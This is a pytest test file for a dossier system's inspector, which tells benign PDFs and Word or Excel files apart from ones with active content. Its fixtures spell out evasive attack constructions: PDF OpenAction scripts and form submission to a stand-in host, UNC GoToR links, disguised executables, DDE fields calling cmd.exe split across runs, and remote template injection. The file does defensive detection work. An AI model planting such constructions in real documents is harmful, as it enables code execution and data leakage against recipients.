"""What runs, sends, fetches or carries something is found wherever it is; honest papers are taken."""

import time

import pytest

from services.dossier.domain.papers import PaperKind
from services.dossier.store.inspection.reading import inspect
from services.dossier.store.legal_sets import read_legal_sets
from services.dossier.store.press import TypstPress
from tests.builders.dossier.files import (
    EXCEL,
    SCRIPT,
    WORD,
    a_package,
    a_pdf,
    a_pdf_of_long_chains,
    a_pdf_that_carries,
    a_pdf_written,
    a_relation,
    a_stream,
    a_text_with_field,
)

PDF = "application/pdf"
PRINTED = (
    "agency one_stop number issued_at dossier_code owner address phone email procedure officer reason"
    " legal_basis look_up secret"
)
WIDGET = "<< /Type /Annot /Subtype /Widget /Parent 4 0 R /Rect [0 0 99 20] >>"
LINK = "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (https://dichvucong.gov.vn) >> >>"
SIGNATURE = (
    "<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 10 20 10]"
    " /Contents <3082> /M (D:20260303080000+07'00') >>"
)
XFA = "<xdp><event activity='initialize'><script>1</script></event></xdp>"
HONEST = {
    "links": a_pdf_written("", page=f"/Annots [{LINK}]"),
    "a form without a script": a_pdf_written(
        "/AcroForm << /Fields [4 0 R] >>",
        "<< /FT /Tx /T (a) /Kids [5 0 R] >>",
        WIDGET,
        page="/Annots [5 0 R]",
    ),
    "a signature": a_pdf_written(
        "/AcroForm << /Fields [4 0 R] /SigFlags 3 >>",
        "<< /FT /Sig /T (ky) /V 6 0 R /Kids [5 0 R] >>",
        WIDGET,
        SIGNATURE,
        page="/Annots [5 0 R]",
    ),
    "an outline": a_pdf_written(
        "/Outlines 4 0 R",
        "<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
        "<< /Title (x) /Parent 4 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
    ),
    "a place to open at": a_pdf_written("/OpenAction [3 0 R /Fit]"),
    "an electronic invoice": a_pdf_that_carries("hoa-don.XML"),
    "a password for printing only": a_pdf(password=""),
}
ACTIVE = {
    "a script on opening": a_pdf_written(f"/OpenAction {SCRIPT}"),
    "a script of the page tree": a_pdf_written(pages=f"/AA << /O {SCRIPT} >>"),
    "a script under a written-out name": a_pdf_written("/OpenAction << /S /J#61vaScript /#4aS (1) >>"),
    "a script in an outline": a_pdf_written(
        "/Outlines 4 0 R",
        "<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
        f"<< /Title (x) /Parent 4 0 R /A {SCRIPT} >>",
    ),
    "a field that computes": a_pdf_written(
        "/AcroForm << /Fields [4 0 R] /CO [4 0 R] >>", f"<< /FT /Tx /T (a) /AA << /C {SCRIPT} >> >>"
    ),
    "a field whose box is elsewhere": a_pdf_written(
        "/AcroForm << /Fields [4 0 R] /CO [4 0 R] >>",
        f"<< /FT /Tx /T (a) /Kids [5 0 R] /AA << /C {SCRIPT} >> >>",
        WIDGET,
        page="/Annots [5 0 R]",
    ),
    "XFA": a_pdf_written("/AcroForm << /Fields [] /XFA 4 0 R >>", a_stream(XFA)),
    "a program inside": a_pdf_that_carries("a.exe"),
    "a program behind another name": a_pdf_that_carries("hoa-don.xml.exe"),
    "a form sent on opening": a_pdf_written("/OpenAction << /S /SubmitForm /F (http://x.example/) >>"),
    "a page of the web on opening": a_pdf_written("/OpenAction << /S /URI /URI (http://x.example/) >>"),
    "one after a harmless one": a_pdf_written(
        "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", "<< /S /URI /URI (http://x.example/) >>"
    ),
    "another document on a click": a_pdf_written(
        "", page="/Annots [<< /Subtype /Link /A << /S /GoToR /F (\\\\\\\\x.example\\\\a.pdf) >> >>]"
    ),
}
HONEST_OFFICE = {
    "page numbers": a_package(main=a_text_with_field(" PAGE ", "\\* MERGEFORMAT ")),
    "a field that was added": a_package(main=a_text_with_field(" MERGEFIELD AddedDate ")),
    "a link": a_package(
        **{"word/_rels/document.xml.rels": a_relation("hyperlink", "https://a.example", outside=True)}
    ),
    "a chart with its figures": a_package(
        **{
            "word/embeddings/Microsoft_Excel_Sheet.xlsx": a_package(EXCEL),
            "word/charts/_rels/chart1.xml.rels": a_relation("package", "../embeddings/a.xlsx"),
        }
    ),
    "pictures and fonts": a_package(
        **{"word/media/image1.PNG": b"\x89PNG", "word/fonts/font1.odttf": b"\x00\x01"}
    ),
    "printer settings": a_package(EXCEL, **{"xl/printerSettings/printerSettings1.bin": b"\x00"}),
}
ACTIVE_OFFICE = {
    "macros under any name": a_package(
        **{"word/vba.xml": "x", "word/_rels/document.xml.rels": a_relation("vbaProject", "vba.xml")}
    ),
    "a part nobody knows": a_package(**{"word/vba.dat": b"x"}),
    "a document with macros inside": a_package(**{"word/embeddings/x.docm": b"PK"}),
    "one in a workbook inside": a_package(
        **{"word/embeddings/x.xlsx": a_package(EXCEL, **{"xl/vbaProject.bin": b"x"})}
    ),
    "a page of the web inside": a_package(
        **{"word/a.xml": "<a/>", "word/_rels/document.xml.rels": a_relation("aFChunk", "a.xml")}
    ),
    "DDE": a_package(main='<w:p xmlns:w="w"><w:fldSimple w:instr="&#68;DEAUTO c:\\cmd.exe"/></w:p>'),
    "DDE cut into runs": a_package(main=a_text_with_field(" DD", "EAU", "TO c:\\cmd.exe ")),
    "DDE in a header": a_package(**{"word/header1.xml": a_text_with_field("DDE a b")}),
    "DDE spelled in numbers": a_package(main=a_text_with_field(" QUOTE 68 68 69 65 ")),
    "DDE of a workbook": a_package(
        EXCEL, **{"xl/externalLinks/externalLink1.xml": '<e><x:ddeLink xmlns:x="x" ddeService="cmd"/></e>'}
    ),
    "a template from elsewhere, in capitals": a_package(
        **{"word/_rels/settings.xml.RELS": a_relation("attachedTemplate", "http://x/a.dotm", outside=True)}
    ),
}


@pytest.mark.parametrize("what", HONEST)
def test_an_honest_pdf_is_sound(what: str) -> None:
    """Links, forms, signatures: what offices send each other every day."""
    assert inspect(PDF, HONEST[what]) == "sound"


def test_a_paper_of_the_one_stop_unit_is_sound() -> None:
    """What this system prints itself can be handed in again."""
    words = dict.fromkeys(PRINTED.split(), "Hồ sơ")
    paper = TypstPress().paper(PaperKind.STOP_NOTICE, words, read_legal_sets().named("2025"))
    assert inspect(PDF, paper) == "sound"


@pytest.mark.parametrize("what", ACTIVE)
def test_what_a_pdf_runs_sends_fetches_or_carries_is_found(what: str) -> None:
    """Wherever in the file it is, under whatever spelling."""
    assert inspect(PDF, ACTIVE[what]) == "active"


@pytest.mark.parametrize("what", HONEST_OFFICE)
def test_an_honest_document_is_sound(what: str) -> None:
    """Fields, links, charts and pictures are in half of all documents."""
    kind = EXCEL if what == "printer settings" else WORD
    assert inspect(kind, HONEST_OFFICE[what]) == "sound"


@pytest.mark.parametrize("what", ACTIVE_OFFICE)
def test_what_a_document_runs_or_fetches_is_found(what: str) -> None:
    """By relation, by field, by link or by being a part nobody knows."""
    kind = EXCEL if what == "DDE of a workbook" else WORD
    assert inspect(kind, ACTIVE_OFFICE[what]) == "active"


def test_work_grows_with_the_file_not_with_what_refers_to_what() -> None:
    """Four thousand notes of one chain of five thousand actions: each is looked at once."""
    began = time.process_time()
    assert inspect(PDF, a_pdf_of_long_chains()) == "sound"
    assert time.process_time() - began < 5


def test_packages_in_packages_end() -> None:
    """A chart's workbook is opened, what is in that is not."""
    inner = a_package(EXCEL, **{"xl/embeddings/a.xlsx": a_package(EXCEL)})
    assert inspect(WORD, a_package(**{"word/embeddings/b.xlsx": inner})) == "too-complex"
